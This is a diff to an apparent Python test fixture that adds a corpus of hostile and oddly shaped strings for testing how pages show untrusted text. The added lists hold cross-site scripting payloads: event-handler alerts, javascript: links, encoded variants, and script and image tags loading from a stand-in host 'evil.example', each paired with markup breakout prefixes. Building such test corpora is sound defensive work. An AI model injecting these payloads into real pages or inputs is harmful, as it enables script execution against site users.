@@ -70,3 +70,30 @@ MARKDOWN = [
 ]
 ODD = ["\u202etxt.exe", "\u200b", "\n\n\n", "\u2028", "a" * 199, "🏳️\u200d🌈" * 20]
 ALL = [*SCRIPTS, *MARKDOWN, *ODD]
+
+_WAYS_OUT = ['">', "'>", "</div>", "</a>", "</select>", "</noscript>", "</template>", "-->", "]]>", "\\", "&quot;&gt;"]
+_WAYS_IN = [
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(2)>",
+    "<script src=//evil.example/x.js></script>",
+    "<iframe src=javascript:alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<a href=javascript:alert(1) id=x>x</a>",
+    "<img src=http://evil.example/x.png>",
+    "<div style=position:fixed;inset:0>x</div>",
+    "&lt;img src=x onerror=alert(1)&gt;",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+]
+_WIDE = [
+    "W" * 190,
+    "﷽" * 60,
+    "e\u0301\u0302\u0303\u0304" * 30,
+    "\u202b" + "شكرا" * 40,
+    "\t" * 100 + "x",
+    "🧑🏽\u200d🚀" * 40,
+    "1" * 180,
+]
+_WIDE += ["-" * 150, "\u00a0" * 150]
+CORPUS = [*ALL, *(out + within for out in _WAYS_OUT for within in _WAYS_IN), *_WIDE]
+"""Two hundred, for the pages as a browser shows them."""
